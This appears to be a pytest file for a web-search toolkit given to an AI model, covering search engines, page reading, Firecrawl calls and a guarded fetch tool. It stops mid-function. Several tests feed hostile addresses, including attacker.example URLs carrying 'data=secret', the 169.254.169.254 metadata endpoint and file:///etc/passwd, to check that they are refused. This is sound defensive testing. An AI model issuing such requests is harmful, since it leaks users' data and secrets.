"""Which tools a question gets, `web_search` and the pages that it reads, the pair with one schema, the tiers, `web_fetch`."""

import base64
import json
import os
import time
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field, replace
from datetime import UTC, datetime
from decimal import Decimal
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given, strategies as st

import ipy_websearch as web
from ipy_websearch.errors import ConfigError, FetchError, MissingKeyError
from ipy_websearch.extract.reader import window
from ipy_websearch.results import Page
from ipy_websearch.tools.base import Passage, ToolContext, ToolOutput
from ipy_websearch.tools.research import MAX_BYTES, read_research_tool
from ipy_websearch.tools.web import MOST_ENDS, addresses_in, explicit_addresses, is_known, web_fetch_tool
from tests.contract.helpers import results_of
from tests.fakes.engines import context, hit, run
from tests.fakes.replies import text, tool_use
from tests.fakes.server import Scripted

pytestmark = pytest.mark.anyio
BRAVE, GOOGLE = "web_search_brave", "web_search_google"


def ask(messages_api: Any, *calls: Any, then: Any = None, question: str = "Who?", **options: Any) -> Any:
    """Let the model make these calls in one reply (`then`: one more in the next) and answer; return the answer."""
    messages_api.replies(*([[*calls]] if calls else []), *([then] if then else []), "Done.")
    return web.ask(question, **options)


def offered(messages_api: Any) -> dict[str, dict[str, Any]]:
    """Return the tools of the first request by name."""
    return {tool["name"]: tool for tool in messages_api.bodies[0].get("tools", [])}


def words_of(result: dict[str, Any]) -> str:
    """Return all text in a tool result."""
    blocks = (block["content"] if block["type"] == "search_result" else [block] for block in result["content"])
    return "\n".join(part["text"] for inner in blocks for part in inner)


def sources(result: dict[str, Any]) -> list[str]:
    """Return the addresses of a result's blocks."""
    return [block["source"] for block in result["content"]]


def test_a_set_shrinks_to_the_engines_with_a_key_and_says_so(messages_api: Any, brave_api: Any) -> None:
    answer = ask(messages_api, tools="tiers")
    assert list(offered(messages_api)) == ["brave_search", "brave_llm_context"]
    told = "not offered to the model: firecrawl_scrape, firecrawl_search, firecrawl_map: FIRECRAWL_API_KEY is not set"
    assert answer.notices == (f"{told} (%websearch key firecrawl)",)


@pytest.mark.parametrize(
    ("tools", "error", "told"),
    [
        ("brave_search,firecrawl_map", MissingKeyError, r"%websearch key firecrawl.*FIRECRAWL_API_KEY.*\.env.*keyring"),
        (["pair", GOOGLE], MissingKeyError, "GOOGLE_SEARCH_API_KEY is not set: run `%websearch key google`"),
        ("tier", ConfigError, "'tier'; did you mean 'tiers'"),
        ("read_research", ConfigError, "set WebSearch.research_root"),
    ],
)
def test_a_tool_that_cannot_be_had_is_an_error_before_anything_is_sent(
    messages_api: Any, brave_api: Any, tools: Any, error: Any, told: str
) -> None:
    with pytest.raises(error, match=told):
        web.ask("Who?", tools=tools)
    assert messages_api.requests == []


def test_each_of_the_pair_asks_its_own_engine_and_a_failure_is_told_and_not_handed_on(
    messages_api: Any, brave_api: Any, engine: Callable[[str], Any]
) -> None:
    google = engine("google")
    brave_api.fail(429)
    google.reply([hit("https://google.example/", "G", "From Google.")])
    ask(messages_api, *(tool_use(name, {"query": "ruby author"}) for name in (BRAVE, GOOGLE)), tools="pair")
    failed, found = results_of(messages_api.bodies[-1])
    assert failed["is_error"] and "Search unavailable. Please answer from your knowledge. (brave" in words_of(failed)
    assert sources(found) == ["https://google.example/"] and (len(brave_api.requests), len(google.requests)) == (1, 1)


@pytest.mark.parametrize(
    ("given", "options"),
    [
        ({"allowed_domains": ["a.example"], "blocked_domains": ["bad.a.example"]}, {}),
        ({"allowed_domains": ["b.example"], "blocked_domains": ["bad.a.example"]}, {"allowed_domains": ["a.example"]}),
    ],
)
def test_both_domain_lists_hold_and_the_users_bind_the_model(
    messages_api: Any, brave_api: Any, given: Any, options: Any
) -> None:
    brave_api.reply([hit(f"https://{host}/", host, host) for host in ("a.example", "bad.a.example", "b.example")])
    ask(messages_api, tool_use(BRAVE, {"query": "ruby author", **given}), tools=BRAVE, **options)
    assert sources(results_of(messages_api.bodies[-1])[0]) == ["https://a.example/"]


@pytest.mark.parametrize("tool", [BRAVE, "brave_search", "web_search"])
def test_live_data_come_first_and_can_be_cited(messages_api: Any, brave_api: Any, tool: str) -> None:
    weather = {"type": "rich", "subtype": "weather", "weather": {"location": "Berlin", "temperature_c": 4.5}}
    brave_api.reply_rich("weather", [weather], [hit("https://a.example/", "Weather", "Cold.")])
    ask(messages_api, tool_use(tool, {"query": "weather berlin"}), tools=tool, read_pages=0)
    rich, page = results_of(messages_api.bodies[-1])[0]["content"]
    assert rich["title"] == "Brave rich result: weather" and "temperature_c: 4.5" in rich["content"][0]["text"]
    assert rich["source"] == "https://search.brave.com/search?q=weather+berlin" and page["source"] == "https://a.example/"


GUIDE = "https://docs.example.org/guide"
CREDIT = Decimal("0.00099")


@pytest.fixture
def firecrawl(engine: Callable[[str], Any]) -> Any:
    """The fake of Firecrawl."""
    return engine("firecrawl")


def ask_tiers(messages_api: Any, *calls: Any, **options: Any) -> Any:
    """Ask about the guide with the tools of the tiers."""
    return ask(messages_api, *calls, **{"tools": "tiers", "question": f"What does {GUIDE} say?", **options})


def brave_search(**given: Any) -> Any:
    return tool_use("brave_search", {"query": "ruby author", **given})


def scrape(url: str = GUIDE, **given: Any) -> Any:
    return tool_use("firecrawl_scrape", {"url": url, **given})


def scraped(markdown: str, url: str = GUIDE, **metadata: Any) -> dict[str, Any]:
    """Return an answer of Firecrawl's for one page."""
    about = {"title": "The guide", "sourceURL": url, "url": url, "statusCode": 200, "creditsUsed": 1, **metadata}
    links = ["https://docs.example.org/next", "https://other.example/"]
    return {"success": True, "data": {"markdown": markdown, "links": links, "metadata": about}}


def test_the_five_tools_have_the_specified_parameters(messages_api: Any, brave_api: Any, firecrawl: Any) -> None:
    """Names, defaults and bounds of seed 003; only what must be given is required. 14 goggles are recommended."""
    ask_tiers(messages_api)
    assert all(f"- {name}: " in str(messages_api.bodies[0]["system"]) for name in ("tech", "netsec"))
    schemas = {name: tool["input_schema"]["properties"] for name, tool in offered(messages_api).items()}
    defaults = {name: {p: s.get("default") for p, s in properties.items()} for name, properties in schemas.items()}
    assert defaults == {
        "brave_search": {
            **{"query": None, "count": 5, "freshness": None, "country": "US", "search_lang": "en"},
            **{"safe_search": "moderate", "goggles_id": None},
        },
        "brave_llm_context": {
            **{"query": None, "maximum_number_of_tokens": 8192, "count": 20, "context_threshold_mode": "balanced"},
            **{"freshness": None, "country": "US", "goggles": None},
        },
        "firecrawl_scrape": {"url": None, "formats": ["markdown", "links"], "location": None},
        "firecrawl_search": {
            **{"query": None, "limit": 3, "sources": ["web"], "categories": None, "tbs": None, "location": None},
        },
        "firecrawl_map": {"url": None, "limit": 50, "search": None, "include_subdomains": False, "location": None},
    }
    bounds = {(n, p): s["maximum"] for n, properties in schemas.items() for p, s in properties.items() if "maximum" in s}
    assert bounds == {
        ("brave_search", "count"): 20,
        ("brave_llm_context", "maximum_number_of_tokens"): 32768,
        ("brave_llm_context", "count"): 50,
        ("firecrawl_search", "limit"): 10,
        ("firecrawl_map", "limit"): 5000,
    }
    assert {tuple(tool["input_schema"]["required"]) for tool in offered(messages_api).values()} == {("query",), ("url",)}


def test_a_search_sends_what_is_fixed_and_what_was_given(messages_api: Any, brave_api: Any) -> None:
    """Numbers out of bounds are brought into them, and null means the default: no round is lost to either."""
    given = {"count": 99, "freshness": "pw", "country": "DE", "search_lang": "de", "safe_search": "off", "goggles_id": "tech"}
    ask_tiers(messages_api, brave_search(count=None), brave_search(**given), tools="brave_search")
    first, second = [request.values() for request in brave_api.requests]
    fixed = {"extra_snippets": "true", "enable_rich_callback": "1"}
    assert first.items() >= {"q": "ruby author", "count": "5", "country": "US", "search_lang": "en", **fixed}.items()
    assert first["safesearch"] == "moderate" and not {"offset", "freshness", "goggles", "goggles_id"} & set(first)
    wanted = {"count": "20", "freshness": "pw", "country": "DE", "search_lang": "de", "safesearch": "off"}
    assert second.items() >= {**wanted, **fixed}.items() and "site=stackoverflow.com" in second["goggles"]


def test_what_the_user_set_binds_the_model(messages_api: Any, brave_api: Any) -> None:
    """The strict filter cannot be loosened, and the domains of the question hold."""
    settings = web.api.session().settings
    settings.safe_search, settings.country = "strict", "FR"
    brave_api.reply([hit("https://ruby-lang.org/", "Ruby", "Ruby."), hit("https://spam.example/", "Spam", "Spam.")])
    ask_tiers(messages_api, brave_search(safe_search="off"), tools="brave_search", allowed_domains=["ruby-lang.org"])
    sent = brave_api.requests[0].values()
    assert (sent["safesearch"], sent["country"]) == ("strict", "FR") and "site=ruby-lang.org" in sent["goggles"]
    assert "Spam" not in words_of(results_of(messages_api.bodies[-1])[0])


@pytest.mark.parametrize(
    ("page", "options", "told"),
    [
        (scraped("# Secret", statusCode=404), {}, "the page's server answered 404"),
        ({"success": True, "links": ["Secret"]}, {}, "no results that can be read"),
        (
            scraped("Secret.", url="https://other.example/landing"),
            {"allowed_domains": ["example.org"]},
            "redirects to a domain that was not allowed",
        ),
    ],
)
def test_a_page_that_was_billed_and_is_none_is_an_error(
    messages_api: Any, firecrawl: Any, page: Any, options: Any, told: str
) -> None:
    firecrawl.reply(body=page)
    call = tool_use("firecrawl_map", {"url": GUIDE}) if "links" in page else scrape()
    answer = ask_tiers(messages_api, call, **options)
    (result,) = results_of(messages_api.bodies[-1])
    assert result["is_error"] and told in words_of(result) and "Secret" not in words_of(result)
    assert answer.trace[1].cost_usd == CREDIT


@pytest.mark.parametrize(
    ("call", "why"),
    [
        (scrape("https://attacker.example/?data=secret"), "url_not_in_prior_context"),
        (tool_use("firecrawl_map", {"url": "https://attacker.example"}), "url_not_in_prior_context"),
        (tool_use("firecrawl_map", {"url": f"{GUIDE}?data=secret"}), "url_not_in_prior_context"),
        (scrape("http://169.254.169.254/latest"), "169.254.169.254"),
        (scrape("file:///etc/passwd"), "not an http:// or https://"),
    ],
)
def test_what_nobody_wrote_down_is_not_read(messages_api: Any, firecrawl: Any, call: Any, why: str) -> None:
    """Addresses that the model made up, private ones and other schemes go nowhere."""
    ask_tiers(messages_api, call, question=f"See {GUIDE} and http://169.254.169.254/latest and file:///etc/passwd")
    (result,) = results_of(messages_api.bodies[-1])
    assert result["is_error"] and why in words_of(result) and "Failed to fetch URL" in words_of(result)
    assert firecrawl.requests == []


def test_what_the_model_wrote_into_a_call_makes_no_address_known(messages_api: Any, brave_api: Any) -> None:
    """Neither a refused fetch nor a search without results, whose texts the next question reads in the history."""
    brave_api.reply([])
    url = "https://attacker.example/?data=secret"
    fetch = tool_use("web_fetch", {"url": url})
    ask(messages_api, fetch, tool_use("web_search", {"query": url}))
    ask(messages_api, fetch, follow=True)
    (result,) = results_of(messages_api.bodies[-1])
    assert "(url_not_in_prior_context)" in words_of(result)


def test_a_context_call_gives_whole_passages(messages_api: Any, brave_api: Any) -> None:
    long = ("word " * 2_000).strip()
    brave_api.reply([hit("https://a.example/x", "A page", long)])
    given = {"query": "ruby author", "maximum_number_of_tokens": 99, "count": 500, "context_threshold_mode": "strict"}
    answer = ask_tiers(messages_api, tool_use("brave_llm_context", given), tools="brave_llm_context")
    sent = brave_api.requests[0].values()
    chosen = {"maximum_number_of_tokens": "1024", "count": "50", "context_threshold_mode": "strict", "country": "US"}
    assert sent.items() >= {"maximum_number_of_urls": "20", **chosen}.items()
    assert words_of(results_of(messages_api.bodies[-1])[0]) == long and answer.trace[1].cost_usd == Decimal("0.005")


def test_a_page_comes_in_blocks_and_its_panel_is_its_markdown(messages_api: Any, firecrawl: Any) -> None:
    """Markdown as it came, then links and metadata; the links may be read next; a credit is booked."""
    markdown = "# Guide\n\nFirst part.\n\n```sh\nrun\n\nit\n```\n\nLast part."
    chosen = {"formats": ["markdown", "summary"], "location": {"country": "DE", "languages": ["de"]}}
    firecrawl.reply(body=scraped(markdown))
    answer = ask_tiers(messages_api, scrape(), then=scrape("https://docs.example.org/next", **chosen))
    first, second = (request.body for request in firecrawl.requests)
    assert first.items() >= {"url": GUIDE, "onlyMainContent": True, "formats": ["markdown", "links"]}.items()
    assert second.items() >= {"url": "https://docs.example.org/next", **chosen}.items()
    texts = words_of(messages_api.bodies[1]["messages"][-1]["content"][0])
    assert texts.startswith(
        "# Guide\n\nFirst part.\n\n```sh\nrun\n\nit\n```\nLast part.\nLinks:\n- https://docs.example.org/next"
    )
    panel = answer.panels[0].content
    assert panel.startswith(markdown) and "## Metadata\n\n```yaml\ntitle: The guide" in panel
    assert answer.trace[1].cost_usd == CREDIT


def test_a_search_with_pages_reads_them(messages_api: Any, firecrawl: Any) -> None:
    """The scrape options are always sent; a result without a page gives its snippet; the reported credits are booked."""
    bad = {"markdown": "no", "metadata": {"statusCode": 403}}
    pages = [
        {"url": GUIDE, "title": "Guide", "description": "short", "markdown": "# Guide\n\nAll."},
        {"url": "https://b.example/", "title": "B", "description": "only this"},
        {"url": "https://c.example/", "title": "C", "description": "kept", **bad},
    ]
    firecrawl.reply(body={"success": True, "data": {"web": pages}, "creditsUsed": 4})
    chosen = {"query": "window", "sources": ["web", "news"], "categories": ["pdf"], "tbs": "qdr:w", "location": "Germany"}
    answer = ask_tiers(messages_api, tool_use("firecrawl_search", {"limit": 50, **chosen}))
    scraping = {"scrapeOptions": {"formats": ["markdown", "links"], "onlyMainContent": True}}
    assert firecrawl.requests[0].body.items() >= {**scraping, **chosen, "limit": 10}.items()
    assert words_of(results_of(messages_api.bodies[-1])[0]) == "# Guide\n\nAll.\nonly this\nkept"
    assert answer.trace[1].cost_usd == 4 * CREDIT and answer.searches == 1


def test_a_site_is_mapped_from_an_address_on_it(messages_api: Any, firecrawl: Any) -> None:
    """The root of a known page's host, or of the domain above it, may be mapped; its addresses may then be read."""
    firecrawl.links = [{"url": f"https://docs.example.org/{n}", "title": f"Page {n}", "description": "d"} for n in range(60)]
    given = {"url": "https://example.org", "search": "guide", "include_subdomains": True, "limit": 9_999}
    ask_tiers(messages_api, tool_use("firecrawl_map", given), then=scrape("https://docs.example.org/59"))
    sent = {"url": "https://example.org", "limit": 5_000, "search": "guide", "includeSubdomains": True}
    assert firecrawl.requests[0].body.items() >= sent.items()
    mapped = words_of(messages_api.bodies[1]["messages"][-1]["content"][0]).splitlines()
    assert mapped[0] == "https://docs.example.org/0 — Page 0 — d" and len(mapped) == 60
    assert not results_of(messages_api.bodies[-1])[0].get("is_error")


# --- the pages of a search ------------------------------------------------------------------------------------------------


@pytest.fixture(autouse=True)
def time_enough(monkeypatch: pytest.MonkeyPatch) -> None:
    """On a machine that is busy, the first page takes longer than a reader has patience."""
    monkeypatch.setattr("ipy_websearch.tools.web.READ_S", 60.0)


SEARCH = tool_use("web_search", {"query": "ruby author"})
BLOCKED = "http://blocked.example.org/page"
ABOUT = (
    "<html><head><title>About</title></head><body><article><h1>Ruby</h1><p>Ruby is a language with many users. It runs on most "
    "computers, and has a large library.</p><h2>Origin</h2><p>The author of Ruby is Yukihiro Matsumoto, called Matz. He began "
    "with it in 1993, in Japan.</p><h2>Speed</h2><p>A program may be slow at first, and becomes faster as it runs.</p>"
    "<h2>Weather</h2><p>It rained in Paris on Tuesday, and nobody had an umbrella at hand. "
    '<a href="http://linked.example.org/x">More on that</a></p></article></body></html>'
)


def about(public_web: Any, url: str = "http://ruby.example.org/about", **options: Any) -> str:
    """Put the page on the web, and return its address."""
    return str(public_web.page(url, ABOUT, **options))


def asked(messages_api: Any, *replies: Any, **options: Any) -> Any:
    """Let the model search (or call these) and answer; return the answer."""
    messages_api.replies(SEARCH, *replies, "Matz.")
    return web.ask("Who wrote Ruby?", **{"provider": "brave", **options})


def paths(public_web: Any) -> list[str]:
    """Return what was asked of the web."""
    return [request.path for request in public_web.requests]


def test_the_passages_that_fit_the_query_stand_in_place_of_the_snippet(
    messages_api: Any, brave_api: Any, public_web: Any
) -> None:
    """Under their headings, as blocks that can be cited; the sources, the panel and the next fetch know of the page."""
    public_web.page("http://linked.example.org/x", "<p>Nothing.</p>")
    brave_api.reply([hit(about(public_web), "Ruby", "A snippet."), hit("https://b.example/", "Other", "Another snippet.")])
    cited = [text("Matz did.", citations=[(0, 0)]), text(" There are others.", citations=[(1, 0)])]
    answer = asked(messages_api, [*cited, tool_use("web_fetch", {"url": "http://linked.example.org/x"})])
    body = messages_api.bodies[1]["messages"][-1]["content"][0]
    (page, other), words = body["content"], words_of(body)
    assert "Yukihiro Matsumoto" in words and "Origin" in words and "A snippet." not in words and "umbrella" not in words
    assert page["citations"] == {"enabled": True} and page["source"] == "http://ruby.example.org/about"
    assert other["content"][0]["text"] == "Another snippet." and "Only a snippet: the page was not read" in words
    assert list(answer.sources.read) == [page["read"] for page in answer.panels[0].data["pages_read"]] == ["page", "snippet"]
    assert "1 of 2 pages read" in answer.steps.detail[1]
    assert "/x" in paths(public_web), "a page that was read in a search makes its links known"


@pytest.mark.parametrize("most", [0, 2])
def test_only_the_first_pages_are_read_and_the_second_time_from_the_cache(
    messages_api: Any, brave_api: Any, public_web: Any, most: int
) -> None:
    brave_api.reply([hit(about(public_web, f"http://s{n}.example.org/about"), "Ruby", "A snippet.") for n in range(4)])
    asked(messages_api, read_pages=most)
    texts = [block["content"][0]["text"] for block in results_of(messages_api.bodies[-1])[0]["content"]]
    assert [text != "A snippet." for text in texts] == [at < most for at in range(4)]
    answer = asked(messages_api, read_pages=most)
    assert sorted(paths(public_web)) == sorted(["/about", "/robots.txt"] * most), "once each"
    assert [page["cached"] for page in answer.trace[1].log.get("pages", ())] == [True] * most


@pytest.mark.parametrize(
    ("url", "why"),
    [
        (BLOCKED, "robots.txt forbids it"),
        ("http://10.0.0.8/page", "10.0.0.8 is not public"),
        ("http://gone.example.org/page", "404"),
        ("http://picture.example.org/page", "image/png"),
        ("http://moved.example.org/page", "domain that was not allowed"),
        ("http://empty.example.org/page", "no text"),
        ("http://down.example.org/", "http://down.example.org/robots.txt"),
    ],
)
def test_what_cannot_be_read_keeps_its_snippet_and_says_why(
    messages_api: Any, brave_api: Any, public_web: Any, url: str, why: str
) -> None:
    public_web.page("http://blocked.example.org/robots.txt", "User-agent: *\nDisallow: /", content_type="text/plain")
    public_web.page(BLOCKED, ABOUT)
    public_web.page("http://gone.example.org/page", "Gone", status=404)
    public_web.page("http://picture.example.org/page", b"\x89PNG", content_type="image/png")
    public_web.redirect("http://moved.example.org/page", about(public_web, "http://bad.example.org/about"))
    public_web.page("http://down.example.org/robots.txt", "", status=503)
    public_web.page("http://empty.example.org/page", "<html><body></body></html>")
    brave_api.reply([hit(url, "Ruby", "A snippet.")])
    answer = asked(messages_api, blocked_domains=["bad.example.org"])
    snippet, note = results_of(messages_api.bodies[-1])[0]["content"][0]["content"]
    assert snippet["text"] == "A snippet." and why in note["text"] and answer.trace[1].log["pages"][0]["read"] == "snippet"


def test_a_slow_page_is_not_waited_for(
    messages_api: Any, brave_api: Any, public_web: Any, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Its result keeps the snippet, and its download ends."""
    monkeypatch.setattr("ipy_websearch.tools.web.READ_S", 0.2)
    brave_api.reply([hit(about(public_web, delay_s=600), "Ruby", "A snippet.")])
    asked(messages_api)
    assert words_of(results_of(messages_api.bodies[-1])[0]).startswith(
        "A snippet.\n(Only a snippet: the page was not read: it took"
    )
    while public_web.active:
        time.sleep(0.02)


def test_reading_pages_stays_within_the_budget(messages_api: Any, brave_api: Any, public_web: Any) -> None:
    long = "<h1>Ruby</h1>" + "".join(f"<h2>Part {n}</h2><p>{'The author of Ruby is Matz. ' * 30}</p>" for n in range(60))
    brave_api.reply([hit(public_web.page(f"http://s{n}.example.org/", long), "Ruby", "A snippet.") for n in range(3)])
    answer = asked(messages_api, budget_usd=0.06)
    assert answer.cost_usd <= 0.06 and sum(page["tokens"] for page in answer.trace[1].log["pages"]) <= 4_000
    assert len(sources(results_of(messages_api.bodies[-1])[0])) == 3


# --- web_fetch --------------------------------------------------------------------------------------------------------------

DATE = datetime(2026, 3, 1, tzinfo=UTC)
URL = "https://example.com/guide"
PAGE = Page(URL, URL, "Guide", "# One\n\ntwo\n\nthree", 0, 0, DATE)


@dataclass
class Pages:
    """Stands for the reader: one page, or an error, whatever the address."""

    page: Page | Exception = PAGE
    reads: list[dict[str, Any]] = field(default_factory=list)

    async def read(self, url: str, **options: Any) -> Page:
        """Return the lines of the page."""
        self.reads.append({"url": url, **options})
        if isinstance(self.page, Exception):
            raise self.page
        return window(self.page, options["offset"], options["limit"])


async def fetched(pages: Any, url: str = URL, *, known: Any = None, made: Any = None, **given: Any) -> ToolOutput:
    """Return the output of a call; the address is known unless `known` says what is, `made` are options of the tool."""
    tool = web_fetch_tool(pages, **(made or {}))
    return await tool.call(tool.parsed({"url": url, **given}), ToolContext({url} if known is None else set(known)))


async def test_a_page_becomes_one_passage_of_its_paragraphs() -> None:
    """With its final address, title and date; its links are known from then on; it costs nothing."""
    page = replace(PAGE, final_url=f"{URL}/", links=("https://example.com/next",), cached=True, note="plain text only: x")
    output = await fetched(Pages(page), offset=None)
    assert output.passages == (Passage(f"{URL}/", "Guide", ("# One\n\ntwo", "three"), DATE, "page"),)
    assert output.urls == (f"{URL}/", "https://example.com/next") and output.panel_data == "# One\n\ntwo\n\nthree"
    assert output.summary == "read 5 lines of example.com/guide (cached)" and not output.is_error
    assert output.notices == ("example.com/guide: plain text only: x",) and output.charges[0].usd == 0


async def test_a_long_page_comes_in_parts_with_the_next_offset_as_a_field() -> None:
    """500 lines unless a limit is given, 40,000 characters at once; parts leave out nothing."""
    pages = Pages(replace(PAGE, content="\n".join(f"line {n}" for n in range(1, 1_241))))
    parts = [await fetched(pages, offset=o, limit=n) for o, n in ((1, None), (501, 700), (1_201, None))]
    assert [part.passages[0].paragraphs[-1] for part in parts] == [
        "lines 1–500 of 1,240; next_offset: 501",
        "lines 501–1,200 of 1,240; next_offset: 1201",
        "lines 1,201–1,240 of 1,240",
    ]
    assert parts[0].panel_data.endswith("line 1240") and "line 501\n" in parts[1].passages[0].paragraphs[0]


async def test_a_long_line_is_cut_for_the_model_and_whole_in_the_panel() -> None:
    pages = Pages(replace(PAGE, content="\n".join(["a" * 30_000, "b" * 9_999, "c" * 10, "d" * 90_000])))
    first, cut = [await fetched(pages, offset=offset, limit=1_000) for offset in (1, 4)]
    assert first.passages[0].paragraphs[-1] == "lines 1–2 of 4; next_offset: 3" and len(cut.panel_data) == 90_000
    assert cut.passages[0].paragraphs == ("d" * 40_000, "lines 4–4 of 4; line 4 is cut at 40,000 characters")


@pytest.mark.parametrize(
    ("url", "may"),
    [
        ("https://example.com/guide", True),
        ("HTTPS://EXAMPLE.COM:443/guide/#top", True),
        ("http://xn--bcher-kva.example/%C3%A4%20b?q=1", True),
        ("http://bücher.example/%c3%a4 b?q=1", True),
        ("corpus://planets/mars", True),
        ("http://example.com/guide", False),
        ("https://example.com/", False),
        ("https://example.com/guide?d=secret", False),
        ("https://example.com/guide/secret", False),
        ("https://example.com/Guide", False),
        ("https://secret.example.com/guide", False),
        ("https://example.com:8443/guide", False),
        ("https://secret@example.com/guide", False),
        ("http://xn--bcher-kva.example/%C3%A4%20b?q=1&d=secret", False),
        ("corpus://planets/venus", False),
        ("file:///etc/passwd", False),
        ("secret", False),
        ("", False),
    ],
)
def test_an_address_is_known_in_any_spelling_and_no_other_is(url: str, may: bool) -> None:
    """An address that the model made up could carry away what it knows."""
    known = ["https://Example.com/guide/", "http://bücher.example:80/ä b?q=1#part", "corpus://planets/mars"]
    assert is_known(url, known) is may


NOBODY = "only addresses from the question, from search results or from pages already read may be fetched"


@pytest.mark.parametrize(
    ("page", "domains", "url", "told"),
    [
        (PAGE, {}, f"{URL}?d=secret", f"{NOBODY} (url_not_in_prior_context): {URL}?d=secret"),
        (PAGE, {"allowed_domains": ("example.org",)}, URL, "this domain was not allowed (url_not_allowed)"),
        (PAGE, {"allowed_domains": ("ple.com",)}, URL, "this domain was not allowed (url_not_allowed)"),
        (PAGE, {"blocked_domains": ("example.com",)}, URL, "this domain was not allowed (url_not_allowed)"),
        (PAGE, {"allowed_domains": ("example.org",)}, "https://www.example.org/x", "it redirects to a domain that was not"),
        (FetchError("Connection timeout"), {}, URL, "Connection timeout"),
        (FetchError("Failed to parse HTML: it is an archive"), {}, URL, "Failed to parse HTML: it is an archive"),
    ],
)
async def test_what_is_not_read_is_a_result_with_the_texts_of_the_specification(
    page: Page | Exception, domains: Any, url: str, told: str
) -> None:
    """Nothing is asked for that nobody else wrote down, or that is outside of the user's domains."""
    pages = Pages(page)
    output = await fetched(pages, url, known=[URL, "https://www.example.org/x"], made=domains)
    assert output.text.removeprefix("Failed to fetch URL: ").startswith(told)
    assert output.is_error and not (output.passages or output.urls or output.charges) and output.panel_data is None
    assert bool(pages.reads) is ("(url_not_" not in told)


WIKI = "https://en.wikipedia.org/wiki"


@pytest.mark.parametrize(
    ("text", "addresses"),
    [
        ("url,name\nhttps://a.example/x,Acme Inc", ["https://a.example/x"]),
        ("https://a.example/x;Acme", ["https://a.example/x"]),
        ("https://a.example/x,https://b.example/y", ["https://a.example/x", "https://b.example/y"]),
        ("a.example/x,b.example/y", ["https://a.example/x", "http://b.example/y"]),
        ("['https://a.example/x','https://b.example/y']", ["https://a.example/x", "https://b.example/y"]),
        ("[https://a.example/x](https://b.example/y)[z](https://c.example)", ["https://a.example/x", "https://b.example/y"]),
        ("is https://a.example/x's title", ["https://a.example/x"]),
        ("is https://a.example/x’s title", ["https://a.example/x"]),
        ("“https://a.example/x”", ["https://a.example/x"]),
        ("« https://a.example/x », »https://b.example/y«", ["https://a.example/x", "https://b.example/y"]),
        ("‘https://a.example/x’—or https://b.example/y…", ["https://a.example/x", "https://b.example/y"]),
        ("https://a.example/x\u200bnext", ["https://a.example/x"]),
        ("读https://a.example/x。再读「https://b.example/y」，好吗？", ["https://a.example/x", "https://b.example/y"]),
        ("请看https://a.example/x的标题和https://b.example", ["https://a.example/x", "https://b.example"]),
        ("请看a.example/x的标题", ["https://a.example/x"]),
        ("读https://a.example/x。版本2.0（README.md）", ["https://a.example/x"]),
        ("读https://a.example。版本2.0", ["https://a.example"]),
        ("https://a.example의 제목", ["https://a.example"]),
        (f"{WIKI}/Washington,_D.C.", [f"{WIKI}/Washington,_D.C."]),
        (f"({WIKI}/Mars_(planet)), {WIKI}/Ohm's_law.", [f"{WIKI}/Mars_(planet)", f"{WIKI}/Ohm's_law"]),
        ("https://ja.wikipedia.org/wiki/東京。", ["https://ja.wikipedia.org/wiki/東京"]),
    ],
)
def test_an_address_is_known_whatever_stands_around_it(text: str, addresses: list[str]) -> None:
    """In lists, tables, quotes and scripts without blanks, and with a comma or an apostrophe of its own."""
    assert [url for url in addresses if not is_known(url, addresses_in(text))] == []


@pytest.mark.parametrize(
    ("text", "made_up"),
    [
        (
            "https://a.example/x,A",
            ["https://a.example/x,B", "https://a.example/", "https://a.example", "https://a.example/x/A"],
        ),
        ("https://a.example/?q=1,2", ["https://a.example/?q=", "https://a.example/?q=2", "https://a.example/?q=1&d=key"]),
        ("https://web.archive.org/web/https://b.example/x", ["https://b.example/x"]),
        ("https://a.example/?to=b.example,c=d.example", ["https://b.example", "https://d.example"]),
        ("bücher.example", ["https://cher.example"]),
        ("https://a.example/x…/y", ["https://a.example/x/y"]),
    ],
)
def test_nothing_is_known_that_does_not_stand_there(text: str, made_up: list[str]) -> None:
    """What the model would put together, another place of the same host, or a part of a host's name is refused."""
    assert [url for url in made_up if is_known(url, addresses_in(text))] == []


@given(st.text(alphabet="ab./:?=,;'()[]“”。的é\u200b \n", max_size=60))
def test_every_reading_is_a_piece_of_the_text_from_where_an_address_begins(tail: str) -> None:
    """So who did not write the text has no say in what a server would be asked for."""
    text = f"https://x.example/{tail}"
    for url in explicit_addresses(text):
        assert url in text and url.startswith("https://")


@pytest.mark.parametrize(
    "text", ["https://a" + ")" * 40_000, "https://a," * 4_000, "a.bc/," * 7_000, "https://a" + "()" * 20_000]
)
def test_a_hostile_text_makes_few_addresses_in_little_time(text: str) -> None:
    """What is known stays a small multiple of the text."""
    began = time.process_time()
    known = addresses_in(text)
    assert sum(map(len, known)) <= 4 * MOST_ENDS * len(text) and time.process_time() - began < 2


# --- `read_research`: a document out of a folder or a GitHub repository, and nothing from anywhere else --------------

TOO_LARGE = "File exceeds 50KB limit. Try a more specific path or request a summary."
CONTENTS = "/repos/acme/research/contents/"
TOKEN = "ghp_fakeTokenOfTheTests0123456789"

Read = Callable[[str], tuple[ToolOutput, dict[str, Any]]]


def reader(root: str, base: Path) -> Read:
    """Return a function that gives the output and the payload for a path below `root`."""
    made = context(base)
    tool = read_research_tool(root, made.http, made.keys, base=base)

    def read(path: str) -> tuple[ToolOutput, dict[str, Any]]:
        output = run(tool.call(tool.parsed({"path": path}), ToolContext()), made)  # type: ignore[arg-type]
        found = json.loads(output.text)
        assert output.is_error is not found["ok"] and output.passages == ()
        return output, found

    return read


def on_github(data: bytes, **changed: Any) -> dict[str, Any]:
    """Return the object that stands for a file; a value of None takes a field out."""
    found = {"type": "file", "size": len(data), "content": base64.encodebytes(data).decode(), **changed}
    return {name: value for name, value in found.items() if value is not None}


@pytest.fixture
def github(monkeypatch: pytest.MonkeyPatch) -> Iterator[Scripted]:
    """The Contents API, which knows no file."""
    with Scripted() as served:
        monkeypatch.setenv("GITHUB_BASE_URL", served.url)
        yield served


@pytest.fixture(params=["folder", "github"])
def place(request: pytest.FixtureRequest, github: Scripted, tmp_path: Path) -> tuple[Read, Callable[[str, bytes], Any]]:
    """Both kinds of root: a function that reads in it, and one that puts a document there."""
    ideas = tmp_path / "ideas"
    (ideas / "market").mkdir(parents=True)
    github.answer([{"type": "file"}], path=f"{CONTENTS}docs/ideas/market")
    if request.param == "folder":
        return reader(str(ideas), tmp_path), lambda path, data: (ideas / path).write_bytes(data)
    read = reader("github:acme/research/docs/ideas@main", tmp_path)
